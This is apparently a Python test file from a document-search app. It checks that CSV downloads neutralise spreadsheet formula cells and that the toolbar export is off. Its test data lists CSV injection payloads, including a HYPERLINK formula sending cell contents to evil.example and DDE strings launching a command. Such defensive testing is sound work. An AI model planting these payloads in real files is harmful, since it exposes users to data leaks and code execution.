"""CSV formula injection: tables that show document text or questions must not hand a
spreadsheet a live `=HYPERLINK(...)` (issue 16, item 8). The tables' toolbar download is off
(client.disableDataExport); the app's own CSV downloads neutralise formula cells."""

from __future__ import annotations

import csv
import io
import tomllib
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from rag_core.ingest.table import FORMULA_STARTS, csv_safe, documents_frame, is_formula, to_safe_csv
from rag_core.core.types import Document

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_the_toolbar_download_is_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_a_documents_csv_has_no_live_formula():
    frame = documents_frame([Document(source=h, section=h, text=h) for h in HOSTILE])
    for row in csv.reader(io.StringIO(to_safe_csv(frame), newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_only_formula_cells_change_and_keep_their_text(texts):
    frame = pd.DataFrame({"text": texts, "n": range(len(texts))})
    safe = csv_safe(frame)
    for before, after in zip(texts, safe["text"]):
        assert after == ("'" + before if is_formula(before) else before)
    assert list(safe["n"]) == list(frame["n"])


BEHIND = [" =HYPERLINK(\"http://evil.example\")", "\n=1+1", "\x00=1+1", "\u00a0+cmd|' /C calc'!A0", "＝HYPERLINK(\"x\")",
          "  @SUM(1)"]


def test_a_formula_behind_blanks_a_nul_or_in_full_width_signs_is_neutralised():
    """ASVS 1.2.10 adds the NUL; some spreadsheets trim leading blanks or read full-width signs."""
    frame = documents_frame([Document(source=h, section=h, text=h) for h in BEHIND])
    for row in list(csv.reader(io.StringIO(to_safe_csv(frame), newline="")))[1:]:
        for cell in row[:3]:
            assert cell.startswith("'"), repr(cell)
